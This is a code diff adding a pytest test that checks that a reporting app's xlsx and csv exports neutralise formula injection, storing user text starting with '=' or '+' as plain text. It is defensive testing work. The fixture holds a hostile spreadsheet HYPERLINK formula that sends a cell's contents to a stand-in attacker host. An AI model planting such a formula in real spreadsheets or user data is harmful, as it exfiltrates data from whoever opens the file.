@@ -273,3 +273,30 @@ def test_report_for_a_year_without_data_says_so(coordination, produce, django_ca
     run.refresh_from_db()
     assert run.status == "done"
     assert f"The team has no workplan for {YEAR + 1}." in pdf_text(run.file.path)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_user_text_that_looks_like_a_formula_stays_text(fmt, coordination, produce):
+    """A focal point's title starting with '=' (or a phone number with '+') is never a live formula."""
+    activity = Activity.objects.get(title="Provincial nutrition survey")
+    activity.title = EVIL
+    activity.save()
+    person = coordination.focal_point.person
+    person.phone = "+855 23 123 456"
+    person.save()
+    path = produce(coordination.focal_point, "country", fmt, team=coordination.cambodia)
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        workbook = load_workbook(str(path))
+        cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row if cell.value is not None]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
+        assert EVIL in {cell.value for cell in cells}  # kept, as text
+        assert "+855 23 123 456" in {cell.value for cell in cells}
+    else:
+        rows = [cell for rows in csv_sections(path).values() for row in rows for cell in row]
+        assert not [cell for cell in rows if cell.startswith(("=", "+", "-", "@"))]
+        assert "'" + EVIL in rows and "'+855 23 123 456" in rows
